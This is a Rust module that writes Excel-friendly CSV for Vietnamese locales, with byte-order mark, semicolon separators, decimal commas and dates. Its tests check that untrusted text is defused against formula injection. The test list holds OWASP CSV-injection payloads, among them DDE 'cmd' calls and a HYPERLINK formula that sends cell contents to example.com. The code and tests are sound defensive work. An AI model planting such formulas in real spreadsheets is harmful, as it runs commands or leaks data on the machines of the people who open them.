//! Tables written for spreadsheets: a CSV file that Excel on a Vietnamese Windows opens by
//! double-click with its diacritics, numbers and columns right.
//!
//! Why CSV by hand and not XLSX or the `csv` crate: an XLSX writer (zip + XML) costs far
//! more wasm than the tables it would carry, and the `csv` crate knows nothing of what
//! makes Excel read a file right, which is all this module is about:
//! - **UTF-8 with a byte-order mark**: without it Excel reads the file as the ANSI code
//!   page and every diacritic is garbled;
//! - **`;` between columns**: a Vietnamese Windows has `,` as its decimal symbol, so its
//!   list separator (what Excel splits a double-clicked CSV on) is `;`;
//! - **decimal comma** (`81,8`), so numbers stay numbers, and dates as `dd/mm/yyyy`, the
//!   locale's short date;
//! - quoting (RFC 4180: a field holding `;`, `,`, a tab, `"` or a line break is quoted,
//!   `"` doubled) and CRLF line ends — `,` too, so an Excel whose list separator is `,`
//!   (an English Windows) does not cut a cell in two;
//! - text from imported files is untrusted: text that would be run as a formula (`=`, `+`,
//!   `-`, `@`, also their full-width forms) is written with a `'` before it — at the start
//!   of the cell, after leading spaces, and wherever an Excel splitting on `,`, `;` or a
//!   tab would start a new cell; a cell starting with a tab or a carriage return gets a
//!   leading `'` too (the OWASP CSV-injection rules).

use chrono::NaiveDate;

use crate::Decimal;

/// One cell of a table.
#[derive(Clone, Debug, PartialEq)]
pub enum Cell {
    /// Text, written as it is (quoted when needed).
    Text(String),
    /// A whole number.
    Integer(i64),
    /// Points or any exact number with up to two decimals, written with a decimal comma.
    Decimal(Decimal),
    /// A percentage in tenths (`818` is 81,8), as from
    /// [`Ratio::percent_tenths_rounded`](crate::Ratio::percent_tenths_rounded).
    PercentTenths(u64),
    /// A day, written `dd/mm/yyyy`.
    Date(NaiveDate),
    /// Nothing.
    Empty,
}

/// A table: one header row, then the rows. Rows shorter than the header are padded with
/// empty cells when written.
#[derive(Clone, Debug, Default, PartialEq)]
pub struct Sheet {
    /// Column headings.
    pub header: Vec<String>,
    /// The rows, in order.
    pub rows: Vec<Vec<Cell>>,
}

/// The byte-order mark that tells Excel the file is UTF-8.
pub const BYTE_ORDER_MARK: char = '\u{feff}';
const SEPARATOR: char = ';';
const LINE_END: &str = "\r\n";

/// The whole file, byte-order mark first.
pub fn to_csv(sheet: &Sheet) -> String {
    let mut out = String::new();
    out.push(BYTE_ORDER_MARK);
    let width = sheet
        .rows
        .iter()
        .map(Vec::len)
        .chain([sheet.header.len()])
        .max()
        .unwrap_or(0);
    let header: Vec<Cell> = sheet.header.iter().cloned().map(Cell::Text).collect();
    for row in std::iter::once(&header).chain(&sheet.rows) {
        write_row(&mut out, row, width);
    }
    out
}

fn write_row(out: &mut String, row: &[Cell], width: usize) {
    for column in 0..width {
        if column > 0 {
            out.push(SEPARATOR);
        }
        if let Some(cell) = row.get(column) {
            out.push_str(&field(cell));
        }
    }
    out.push_str(LINE_END);
}

fn field(cell: &Cell) -> String {
    match cell {
        Cell::Text(text) => quoted(&defused(text)),
        Cell::Integer(value) => value.to_string(),
        Cell::Decimal(value) => decimal_comma(value.hundredths(), 2),
        Cell::PercentTenths(tenths) => decimal_comma(i64::try_from(*tenths).unwrap_or(i64::MAX), 1),
        Cell::Date(day) => day.format("%d/%m/%Y").to_string(),
        Cell::Empty => String::new(),
    }
}

/// `scaled` divided by 10^`places`, with a decimal comma and no trailing zeros:
/// (8185, 2) → `81,85`; (8180, 2) → `81,8`; (800, 2) → `8`.
fn decimal_comma(scaled: i64, places: u32) -> String {
    let unit = 10i64.pow(places);
    let sign = if scaled < 0 { "-" } else { "" };
    let magnitude = scaled.unsigned_abs();
    let whole = magnitude / unit.unsigned_abs();
    let fraction = magnitude % unit.unsigned_abs();
    if fraction == 0 {
        return format!("{sign}{whole}");
    }
    let digits = format!("{fraction:0width$}", width = places as usize);
    format!("{sign}{whole},{}", digits.trim_end_matches('0'))
}

/// Characters that make a spreadsheet read a cell as a formula.
fn starts_formula(c: char) -> bool {
    matches!(c, '=' | '+' | '-' | '@' | '\u{FF1D}' | '\u{FF0B}' | '\u{FF0D}' | '\u{FF20}')
}

/// Characters after which some spreadsheet (whatever its list separator) starts a new cell.
fn splits_cells(c: char) -> bool {
    matches!(c, ';' | ',' | '\t' | '\r' | '\n')
}

/// The text with a `'` before every formula character that could begin a cell: at the
/// start, after leading spaces, and after any character some spreadsheet splits cells on.
fn defused(text: &str) -> String {
    let mut out = String::with_capacity(text.len() + 1);
    if text.starts_with(['\t', '\r']) {
        out.push('\'');
    }
    let mut at_cell_start = true;
    for c in text.chars() {
        if at_cell_start && starts_formula(c) {
            out.push('\'');
        }
        out.push(c);
        if splits_cells(c) {
            at_cell_start = true;
        } else if !c.is_whitespace() {
            at_cell_start = false;
        }
    }
    out
}

fn quoted(text: &str) -> String {
    if text.contains([SEPARATOR, ',', '\t', '"', '\n', '\r']) {
        format!("\"{}\"", text.replace('"', "\"\""))
    } else {
        text.to_owned()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn one_row(cells: Vec<Cell>) -> String {
        let sheet = Sheet { header: vec!["A".into()], rows: vec![cells] };
        let csv = to_csv(&sheet);
        let body = csv.strip_prefix("\u{feff}A").unwrap();
        body.trim_start_matches(';').strip_prefix("\r\n").unwrap().trim_end_matches("\r\n").to_owned()
    }

    #[test]
    fn cells_are_written_for_a_vietnamese_excel() {
        let day = NaiveDate::from_ymd_opt(2026, 3, 5).unwrap();
        let cases: Vec<(Cell, &str)> = vec![
            (Cell::Text("Chi bộ Thôn Đông".into()), "Chi bộ Thôn Đông"),
            (Cell::Text("Lê; Trần".into()), "\"Lê; Trần\""),
            (Cell::Text("nói \"được\"".into()), "\"nói \"\"được\"\"\""),
            (Cell::Text("hai\ndòng".into()), "\"hai\ndòng\""),
            (Cell::Text("=HYPERLINK(\"x\")".into()), "\"'=HYPERLINK(\"\"x\"\")\""),
            (Cell::Text("-1".into()), "'-1"),
            (Cell::Text("@x".into()), "'@x"),
            (Cell::Integer(-12), "-12"),
            (Cell::Decimal(Decimal::from_hundredths(8185)), "81,85"),
            (Cell::Decimal(Decimal::from_hundredths(8180)), "81,8"),
            (Cell::Decimal(Decimal::from_int(95)), "95"),
            (Cell::Decimal(Decimal::from_hundredths(-250)), "-2,5"),
            (Cell::Decimal(Decimal::from_hundredths(5)), "0,05"),
            (Cell::PercentTenths(818), "81,8"),
            (Cell::PercentTenths(1000), "100"),
            (Cell::PercentTenths(5), "0,5"),
            (Cell::Date(day), "05/03/2026"),
            (Cell::Empty, ""),
        ];
        for (cell, expected) in cases {
            assert_eq!(one_row(vec![cell.clone()]), expected, "{cell:?}");
        }
    }

    #[test]
    fn the_file_has_a_bom_crlf_and_padded_rows() {
        let sheet = Sheet {
            header: vec!["Chi bộ".into(), "Điểm".into(), "Xếp loại".into()],
            rows: vec![
                vec![Cell::Text("Thôn 1".into()), Cell::Decimal(Decimal::from_int(90))],
                vec![Cell::Text("Thôn 2".into()), Cell::Empty, Cell::Text("Khá".into())],
            ],
        };
        assert_eq!(
            to_csv(&sheet),
            "\u{feff}Chi bộ;Điểm;Xếp loại\r\nThôn 1;90;\r\nThôn 2;;Khá\r\n"
        );
    }

    /// The OWASP CSV-injection payloads (and their variants with leading spaces, tabs,
    /// carriage returns, separators inside the text).
    const INJECTIONS: &[&str] = &[
        "=cmd|' /C calc'!A0",
        "=HYPERLINK(\"http://example.com?leak=\"&A1&A2, \"Error: please click for further information\")",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "+1+1",
        "-2+3",
        "=1+1",
        "DDE (\"cmd\";\"/C calc\";\"!A0\")A0",
        "\t=1+1",
        "\r=1+1",
        "   =1+1",
        " \t @SUM(1)",
        "Nguyễn Văn An,=1+1",
        "Nguyễn Văn An, =cmd|' /C calc'!A0",
        "ghi chú;=1+1",
        "hai dòng\n=1+1",
        "\u{FF1D}1+1",
        "a\t+1",
    ];

    /// Splits a CSV line into cells as a spreadsheet with `separator` as its list
    /// separator does (RFC 4180 quotes: only a quote that opens a cell starts a quoted cell).
    fn cells_as_split_by(line: &str, separator: char) -> Vec<String> {
        let mut cells = vec![String::new()];
        let mut chars = line.chars().peekable();
        let mut quoted = false;
        let mut cell_start = true;
        while let Some(c) = chars.next() {
            let cell = cells.last_mut().unwrap();
            if quoted {
                if c == '"' {
                    if chars.peek() == Some(&'"') {
                        chars.next();
                        cell.push('"');
                    } else {
                        quoted = false;
                    }
                } else {
                    cell.push(c);
                }
            } else if c == '"' && cell_start {
                quoted = true;
                cell_start = false;
            } else if c == separator {
                cells.push(String::new());
                cell_start = true;
            } else {
                cell.push(c);
                cell_start = false;
            }
        }
        cells
    }

    fn runs_as_formula(cell: &str) -> bool {
        cell.trim_start().starts_with(starts_formula) || cell.starts_with(['\t', '\r'])
    }

    #[test]
    fn owasp_injections_never_start_a_cell_whatever_the_list_separator() {
        for payload in INJECTIONS {
            let sheet = Sheet {
                header: vec!["Tên".into(), "Ghi chú".into()],
                rows: vec![vec![Cell::Text("Thôn 1".into()), Cell::Text((*payload).into())], vec![Cell::Text((*payload).into())]],
            };
            let csv = to_csv(&sheet);
            let body = csv.trim_start_matches('\u{feff}');
            // Vietnamese Excel (`;`), an English one (`,`), and a paste split on tabs.
            for separator in [';', ',', '\t'] {
                // Records are split on line ends outside quotes by the same rules: here a
                // CRLF only ends a record (a line break inside a cell is quoted).
                for record in split_records(body) {
                    for cell in cells_as_split_by(&record, separator) {
                        assert!(!runs_as_formula(&cell), "{payload:?} split on {separator:?}: cell {cell:?} of {record:?}");
                    }
                }
            }
            // On `;`, the way this file is meant to be read, the text comes back whole (with its `'`s).
            let second = split_records(body).into_iter().nth(1).unwrap();
            let cells = cells_as_split_by(&second, ';');
            assert_eq!(cells[1].replace('\'', ""), payload.replace('\'', ""), "{payload:?}");
        }
    }

    /// The records of a CSV text: split on CRLF outside quotes.
    fn split_records(text: &str) -> Vec<String> {
        let mut records = vec![String::new()];
        let mut quoted = false;
        let mut chars = text.chars().peekable();
        while let Some(c) = chars.next() {
            if c == '"' {
                quoted = !quoted;
            }
            if !quoted && c == '\r' && chars.peek() == Some(&'\n') {
                chars.next();
                records.push(String::new());
                continue;
            }
            records.last_mut().unwrap().push(c);
        }
        records.retain(|record| !record.is_empty());
        records
    }

    #[test]
    fn an_empty_sheet_is_just_the_mark_and_header() {
        assert_eq!(to_csv(&Sheet::default()), "\u{feff}\r\n");
    }
}
